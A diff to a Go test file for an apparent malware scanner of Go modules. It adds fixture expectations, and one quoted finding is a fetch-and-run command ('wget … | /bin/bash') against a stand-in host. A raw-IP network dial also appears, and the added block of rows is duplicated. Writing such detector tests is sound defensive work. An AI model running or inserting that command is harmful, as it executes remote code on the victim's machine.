@@ -19,6 +19,8 @@ func has(fs []report.Finding, rule string, lvl report.Level) bool {
 	return false
 }
 
+// TestFixtures checks that every fail_* fixture reaches high with the rules
+// listed, and that the clean ones stay at the level of their row.
 func TestFixtures(t *testing.T) {
 	for _, tc := range []struct {
 		file  string
@@ -40,7 +42,23 @@ func TestFixtures(t *testing.T) {
 		{"fail_syscall_var.go", report.High, RuleHiddenString, ""},
 		{"fail_syscall_var.go", report.High, RuleInit, ""},
 		{"fail_garbled.go", report.High, RuleShellCommand, ""},
+		{"fail_syscall_var.go", report.High, RuleInit, "syscall.Exec(…)"},
+		{"fail_typosquat.go", report.High, RuleHiddenExec, "wget -O - https://mil.example/x | /bin/bash &"},
+		{"fail_typosquat.go", report.High, RuleInit, "exec.Command(…)"},
+		{"fail_typosquat.go", report.High, RuleShellCommand, "wget"},
+		{"fail_hex_dial.go", report.High, RuleHiddenNetwork, "203.0.113.50:4443"},
+		{"fail_hex_dial.go", report.High, RuleInit, "net.Dial(…)"},
+		{"fail_hex_dial.go", report.Medium, RuleRawIP, "203.0.113.50:4443"},
+		{"clean_init.go", report.Low, RuleExec, "exec.Command(…)"},
 		{"clean_tool.go", report.Low, RuleExec, `exec.Command("git")`},
+		{"fail_syscall_var.go", report.High, RuleInit, "syscall.Exec(…)"},
+		{"fail_typosquat.go", report.High, RuleHiddenExec, "wget -O - https://mil.example/x | /bin/bash &"},
+		{"fail_typosquat.go", report.High, RuleInit, "exec.Command(…)"},
+		{"fail_typosquat.go", report.High, RuleShellCommand, "wget"},
+		{"fail_hex_dial.go", report.High, RuleHiddenNetwork, "203.0.113.50:4443"},
+		{"fail_hex_dial.go", report.High, RuleInit, "net.Dial(…)"},
+		{"fail_hex_dial.go", report.Medium, RuleRawIP, "203.0.113.50:4443"},
+		{"clean_init.go", report.Low, RuleExec, "exec.Command(…)"},
 		{"clean_tool.go", report.Low, RuleNetwork, "https://proxy.golang.org/example.com/mod/@latest"},
 		{"clean_exec_test.go", report.Medium, RuleShellExec, `exec.Command("/bin/sh", …)`},
 	} {
@@ -49,8 +67,12 @@ func TestFixtures(t *testing.T) {
 			t.Fatal(err)
 		}
 		fs := analyzeBytes("m@v1.0.0!/"+tc.file, b)
-		if got := maxLevel(fs); got != tc.level {
-			t.Errorf("%s: level %v, want %v: %+v", tc.file, got, tc.level, fs)
+		want := report.High
+		if strings.HasPrefix(tc.file, "clean_") {
+			want = tc.level
+		}
+		if got := maxLevel(fs); got != want {
+			t.Errorf("%s: level %v, want %v: %+v", tc.file, got, want, fs)
 		}
 		found := false
 		for _, f := range fs {
